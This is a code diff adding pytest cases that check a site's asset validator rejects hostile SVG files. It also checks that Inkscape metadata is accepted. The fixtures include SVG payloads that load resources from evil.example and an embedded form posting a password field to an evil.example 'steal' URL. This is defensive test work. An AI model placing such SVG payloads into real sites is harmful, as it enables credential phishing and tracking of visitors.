@@ -338,6 +338,38 @@ class TestSvg:
         assert [(p.path, p.line, p.field) for p in problems] == [("content/images/logo.svg", 0, "")]
         assert problems[0].message.startswith("SVG не публикуется: ")
 
+    @pytest.mark.parametrize(("svg", "reason"), [
+        # Opened as a page of the site, these load other hosts or show a form that posts to one.
+        (SVG.format("<rect style=\"fill:red;background-image:image-set('https://evil.example/a.png' 1x)\"/>"),
+         "внешний ресурс (image-set(…))"),
+        (SVG.format('<style>rect{mask-image:-webkit-image-set("https://evil.example/d.png" 1x)}</style>'),
+         "внешний ресурс (image-set(…))"),
+        (SVG.format('<rect fill="image(\'https://evil.example/i.png\')"/>'), "внешний ресурс (image(…))"),
+        ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:form '
+         'action="https://evil.example/steal"><h:input name="password" type="password"/></h:form></svg>',
+         "элемент HTML <form>"),
+        ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">'
+         '<h:img srcset="https://evil.example/c.png 1x"/></svg>', "элемент HTML <img>"),
+        ('<svg xmlns="http://www.w3.org/2000/svg"><math xmlns="http://www.w3.org/1998/Math/MathML" '
+         'href="https://evil.example/"><mi>x</mi></math></svg>', "элемент MathML <math>"),
+        ('<svg xmlns="http://www.w3.org/1999/xhtml"><form action="https://evil.example/x"><input name="q"/></form>'
+         "</svg>", "файл не похож на SVG"),
+    ])
+    def test_svg_that_loads_or_posts_elsewhere_is_refused(self, tmp_path: Path, svg: str, reason: str) -> None:
+        path = tmp_path / "drawing.svg"
+        path.write_text(svg, encoding="utf-8")
+        problem = asset_problem(path, "any")
+        assert problem is not None and reason in problem, problem
+
+    def test_inkscape_metadata_is_accepted(self, tmp_path: Path) -> None:
+        path = tmp_path / "inkscape.svg"
+        path.write_text('<svg xmlns="http://www.w3.org/2000/svg" '
+                        'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" '
+                        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
+                        '<sodipodi:namedview pagecolor="#ffffff"/><metadata><rdf:RDF/></metadata>'
+                        '<rect width="5" height="5"/></svg>', encoding="utf-8")
+        assert asset_problem(path, "any") is None
+
     def test_plain_svg_is_accepted(self, tmp_path: Path) -> None:
         path = tmp_path / "plain.svg"
         path.write_text(textwrap.dedent(PLAIN_SVG), encoding="utf-8")
